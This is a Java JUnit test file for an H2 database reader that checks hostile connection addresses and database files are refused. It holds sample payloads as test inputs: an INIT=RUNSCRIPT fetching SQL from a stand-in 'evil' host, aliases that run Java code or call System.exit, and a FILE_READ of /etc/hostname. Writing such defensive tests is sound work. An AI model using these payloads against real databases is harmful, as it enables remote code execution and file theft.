package org.schemawright.engine.h2;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.SQLException;
import java.sql.Statement;
import java.util.Arrays;
import java.util.List;
import java.util.Optional;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.schemawright.connect.AddressProblem;
import org.schemawright.engine.CatalogReading;
import org.schemawright.engine.DatabaseFiles.FileAddress;
import org.schemawright.engine.h2.files.H2Files;
import org.schemawright.model.Kind;
import org.schemawright.model.ObjectRef;
import org.schemawright.model.Opaque;
import org.schemawright.model.Table;

class H2FilesTest {
    private static final char[] NO_PASSWORD = {};

    private final H2Files files = new H2Files();

    @TempDir
    private Path folder;

    @ParameterizedTest
    @ValueSource(
            strings = {
                "h2:/data/shop",
                "h2:/data/shop.mv.db",
                "jdbc:h2:/data/shop",
                "jdbc:h2:file:/data/shop",
                "jdbc:h2:/data/shop;IFEXISTS=TRUE;ACCESS_MODE_DATA=r"
            })
    void an_address_names_the_file_with_or_without_its_ending(String text) throws Exception {
        assertThat(files.address(text)).contains(new FileAddress(Path.of("/data/shop.mv.db"), Optional.empty()));
    }

    @Test
    void an_address_may_name_a_user() throws Exception {
        assertThat(files.address("jdbc:h2:/data/shop;USER=reader"))
                .contains(new FileAddress(Path.of("/data/shop.mv.db"), Optional.of("reader")));
    }

    @Test
    void addresses_of_others_are_left_to_them() throws Exception {
        assertThat(files.address("sqlite:/data/shop.db")).isEmpty();
        assertThat(files.address("/data/shop.mv.db")).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:h2:/data/shop;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
                "jdbc:h2:/data/shop;init=CREATE ALIAS X FOR 'java.lang.System.exit'",
                "jdbc:h2:/data/shop;TRACE_LEVEL_SYSTEM_OUT=3",
                "jdbc:h2:/data/shop;DATABASE_EVENT_LISTENER='x.Y'",
                "jdbc:h2:/data/shop;AUTO_SERVER=TRUE",
                "jdbc:h2:/data/shop;PASSWORD=hunter2",
                "jdbc:h2:mem:shop",
                "jdbc:h2:tcp://evil/shop",
                "jdbc:h2:zip:/data/shop.zip!/shop",
                "h2:"
            })
    void an_address_with_anything_else_is_refused_and_shows_no_password(String text) {
        assertThatThrownBy(() -> files.address(text))
                .isInstanceOf(AddressProblem.class)
                .hasMessageNotContaining("hunter2");
    }

    @Test
    void a_file_is_read_and_nothing_is_written_beside_it() throws Exception {
        Path file = database("CREATE TABLE T(A INT PRIMARY KEY)", "INSERT INTO T VALUES(1)");
        byte[] bytes = Files.readAllBytes(file);
        try (Connection connection = open(file)) {
            CatalogReading read = new H2Engine().liveReader(connection).read(connection, "");
            assertThat(read.database().all(Table.class).map(Table::ref))
                    .containsExactly(ObjectRef.of(Kind.TABLE, "PUBLIC", "T"));
            assertThat(read.unseen()).isEmpty();
            assertThatThrownBy(() -> execute(connection, "CREATE TABLE U(A INT)"))
                    .hasMessageContaining("read only");
        }
        assertThat(Files.readAllBytes(file)).isEqualTo(bytes);
        assertThat(names()).containsExactly("shop.mv.db");
        assertThat(files.recognises(file, Arrays.copyOf(bytes, 64))).isTrue();
        assertThat(files.recognises(Path.of("other"), Arrays.copyOf(bytes, 64))).isTrue();
        assertThat(files.recognises(Path.of("other"), "SELECT 1".getBytes(StandardCharsets.UTF_8)))
                .isFalse();
    }

    @Test
    void aliases_and_triggers_are_kept_as_text_and_not_run() throws Exception {
        Path marked = folder.resolve("marked");
        Path file = database(
                "CREATE TABLE T(A INT PRIMARY KEY)",
                "CREATE ALIAS MARK AS 'void mark() throws Exception {"
                        + " java.nio.file.Files.createFile(java.nio.file.Path.of(\""
                        + marked + "\")); }'",
                "CREATE ALIAS ABSOLUTE FOR 'java.lang.Math.abs(int)'");
        try (Connection connection = open(file)) {
            CatalogReading read = new H2Engine().liveReader(connection).read(connection, "");
            assertThat(read.database().all(Opaque.class).map(Opaque::text))
                    .anySatisfy(text -> assertThat(text).startsWith("CREATE ALIAS \"PUBLIC\".\"MARK\" AS "))
                    .contains("CREATE ALIAS \"PUBLIC\".\"ABSOLUTE\" FOR 'java.lang.Math.abs(int)'");
            assertThatThrownBy(() -> execute(connection, "SELECT ABSOLUTE(1)")).hasMessageContaining("denied");
        }
        assertThat(marked).doesNotExist();
    }

    @Test
    void a_file_that_would_run_code_when_it_is_opened_is_not_opened() throws Exception {
        Path marked = folder.resolve("marked");
        Path file = database(
                "CREATE ALIAS MARK AS 'int mark() throws Exception { java.nio.file.Path p ="
                        + " java.nio.file.Path.of(\"" + marked
                        + "\"); if (!java.nio.file.Files.exists(p)) java.nio.file.Files.createFile(p); return 1; }'",
                "CREATE VIEW V AS SELECT MARK() AS M");
        Files.deleteIfExists(marked);
        assertThatThrownBy(() -> open(file))
                .hasMessageContaining("would run code")
                .hasMessageContaining("MARK");
        assertThat(marked).doesNotExist();
    }

    @Test
    void a_view_that_reads_files_and_a_linked_table_are_not_opened() throws Exception {
        Path reading = database("CREATE VIEW V AS SELECT FILE_READ('/etc/hostname') AS F");
        assertThatThrownBy(() -> open(reading)).hasMessageContaining("FILE_READ");
        Files.delete(reading);
        Path linked = database(
                "CREATE TABLE T(A INT)",
                "CREATE LINKED TABLE L('', 'jdbc:h2:" + folder.resolve("shop") + "', 'sa', '', 'T')");
        assertThatThrownBy(() -> open(linked)).hasMessageContaining("linked table");
    }

    @Test
    void a_text_that_speaks_of_files_is_no_call() throws Exception {
        Path file = database("CREATE TABLE T(A VARCHAR DEFAULT 'FILE_READ(1)')");
        try (Connection connection = open(file)) {
            execute(connection, "SELECT * FROM T");
        }
    }

    @Test
    void a_file_that_is_damaged_cut_or_empty_is_refused_with_a_message() throws Exception {
        Path file = database("CREATE TABLE T(A INT PRIMARY KEY)");
        byte[] bytes = Files.readAllBytes(file);
        for (int length : List.of(0, 10, 100, 5000)) {
            Files.write(file, Arrays.copyOf(bytes, Math.min(length, bytes.length)));
            assertThatThrownBy(() -> open(file).close()).isInstanceOf(SQLException.class);
        }
        assertThat(names()).containsExactly("shop.mv.db");
    }

    @Test
    void a_wrong_password_is_told_from_other_failures() throws Exception {
        Path file = database("ALTER USER SA SET PASSWORD 'right'");
        assertThatThrownBy(() -> open(file))
                .isInstanceOfSatisfying(
                        SQLException.class,
                        e -> assertThat(files.wantsPassword(e)).isTrue());
        files.open(new FileAddress(file, Optional.of("sa")), "right".toCharArray())
                .close();
        assertThatThrownBy(() -> open(folder.resolve("none.mv.db")))
                .isInstanceOfSatisfying(
                        SQLException.class,
                        e -> assertThat(files.wantsPassword(e)).isFalse());
    }

    private Connection open(Path file) throws SQLException {
        return files.open(new FileAddress(file, Optional.empty()), NO_PASSWORD);
    }

    private List<String> names() throws IOException {
        try (Stream<Path> all = Files.list(folder)) {
            return all.map(path -> path.getFileName().toString()).sorted().toList();
        }
    }

    /** Made by a program of its own, in which the engine may call classes. */
    private Path database(String... statements) throws Exception {
        Path script = folder.resolve("shop.sql");
        Files.writeString(script, String.join(";\n", statements) + ";\n");
        String engine = Path.of(org.h2.Driver.class
                        .getProtectionDomain()
                        .getCodeSource()
                        .getLocation()
                        .toURI())
                .toString();
        Process process = new ProcessBuilder(
                        Path.of(System.getProperty("java.home"), "bin", "java").toString(),
                        "-cp",
                        engine,
                        "org.h2.tools.RunScript",
                        "-url",
                        "jdbc:h2:file:" + folder.resolve("shop"),
                        "-user",
                        "sa",
                        "-script",
                        script.toString())
                .redirectErrorStream(true)
                .start();
        String said = new String(process.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
        assertThat(process.waitFor()).as(said).isZero();
        Files.delete(script);
        return folder.resolve("shop.mv.db");
    }

    private static void execute(Connection connection, String sql) throws SQLException {
        try (Statement statement = connection.createStatement()) {
            statement.execute(sql);
        }
    }
}
